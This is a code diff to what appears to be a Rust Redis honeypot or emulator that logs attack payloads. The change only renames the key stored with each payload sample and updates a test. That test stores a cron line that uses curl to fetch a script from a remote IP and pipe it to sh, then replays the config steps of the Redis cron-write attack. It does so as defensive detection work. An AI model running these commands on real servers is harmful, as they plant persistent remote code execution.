@@ -155,7 +155,7 @@ pub struct Outcome {
     pub reply: Vec<u8>,
     /// Recognised attack steps (`Detail::Exploit`).
     pub exploits: Vec<Detail>,
-    /// Values worth keeping as samples: (name, kind, bytes).
+    /// Values worth keeping as samples: (key, kind, bytes).
     pub payloads: Vec<(String, &'static str, Vec<u8>)>,
     /// Text that a shell would run (cron lines, module `system.exec` arguments, scripts).
     pub shell_text: Vec<String>,
@@ -483,7 +483,7 @@ pub fn execute(
     // Payload-looking values, whatever command carries them.
     for (key, value) in stored_values(&cmd, args) {
         if let Some(kind) = payload_kind(&value) {
-            out.payloads.push((format!("{} {}", cmd, text(&key[..key.len().min(256)])), kind, value.clone()));
+            out.payloads.push((text(&key[..key.len().min(256)]), kind, value.clone()));
             if matches!(kind, "cron" | "script") {
                 out.shell_text.push(text(&value));
             }
@@ -491,7 +491,7 @@ pub fn execute(
     }
     for value in other_values(&cmd, args) {
         if let Some(kind) = payload_kind(&value) {
-            out.payloads.push((format!("{} {}", cmd, text(&args[1][..args[1].len().min(256)])), kind, value.clone()));
+            out.payloads.push((text(&args[1][..args[1].len().min(256)]), kind, value.clone()));
             if matches!(kind, "cron" | "script") {
                 out.shell_text.push(text(&value));
             }
@@ -893,7 +893,7 @@ mod tests {
         let set = run(&mut d, &["set", "x", "\n*/1 * * * * curl -fsSL http://203.0.113.7/i.sh|sh\n"]);
         assert_eq!(set.reply, b"+OK\r\n");
         assert_eq!(set.payloads.len(), 1);
-        assert_eq!((set.payloads[0].0.as_str(), set.payloads[0].1), ("SET x", "cron"));
+        assert_eq!((set.payloads[0].0.as_str(), set.payloads[0].1), ("x", "cron"));
         assert_eq!(set.shell_text.len(), 1);
         assert_eq!(run(&mut d, &["config", "set", "dir", "/var/spool/cron"]).reply, b"+OK\r\n");
         assert!(run(&mut d, &["config", "set", "dbfilename", "root"]).exploits.is_empty());
